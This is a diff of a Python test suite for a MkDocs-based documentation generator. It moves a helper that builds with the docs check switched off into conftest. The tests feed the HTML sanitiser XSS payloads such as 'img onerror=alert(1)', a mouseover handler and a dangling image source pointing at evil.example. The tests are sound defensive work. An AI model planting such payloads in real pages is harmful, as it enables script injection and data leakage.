@@ -21,7 +21,13 @@ from generator.load.frontmatter import (
     plain_text,
     safe_front_matter,
 )
-from tests.conftest import build_project, copy_project, explainer_build_env, run_explainer
+from tests.conftest import (
+    build_project,
+    build_without_docs_check,
+    copy_project,
+    explainer_build_env,
+    run_explainer,
+)
 
 PAYLOAD = "About <img src=x onerror=alert(1)> & Q&A"
 SUBTITLE = 'Sub <b onmouseover="alert(2)">bold</b>'
@@ -191,16 +197,6 @@ def test_docs_files_that_would_run_or_replace_theme_files_are_refused(tmp_path: 
     assert "docs/assets/images/logo.png" not in out
 
 
-def guard_only_build(root: Path, out: Path, strictness: str) -> subprocess.CompletedProcess[str]:
-    """MkDocs with `explainer check`'s judgement of docs/ switched off (it refuses these pages
-    before any build), so the build's own guard is what meets them."""
-    program = ("import sys, generator.check.run as run; run.check_docs = lambda *a, **k: None; "
-               "from mkdocs.__main__ import cli; sys.exit(cli())")
-    return subprocess.run([sys.executable, "-c", program, "build", strictness, "-d", str(out)],
-                          cwd=root, capture_output=True, text=True, timeout=300,
-                          env=explainer_build_env())
-
-
 OPEN_END = {
     "open-tag": ("<div><img src=x onerror=alert(1)//", "onerror"),
     "dangling-src": ('<p>Pay <img src="https://evil.example/?', "evil.example"),
@@ -225,12 +221,12 @@ def test_markup_left_open_at_a_page_end(tmp_path: Path) -> None:
         assert f"docs/{name}.md:5:" in out, (name, out)
     # The guard under it, reached with the check of docs/ switched off: the strict build fails
     # naming each page, a non-strict one publishes them cut.
-    result = guard_only_build(root, tmp_path / "strict", "--strict")
+    result = build_without_docs_check(root, tmp_path / "strict", "--strict")
     out = result.stdout + result.stderr
     assert result.returncode == 1
     for name in OPEN_END:
         assert f"removed unsafe HTML from {name}.md" in out, (name, out)
-    done = guard_only_build(root, tmp_path / "out", "--no-strict")
+    done = build_without_docs_check(root, tmp_path / "out", "--no-strict")
     assert done.returncode == 0, done.stderr
     for name, (_tail, gone) in OPEN_END.items():
         html = (tmp_path / "out" / name / "index.html").read_text("utf-8")
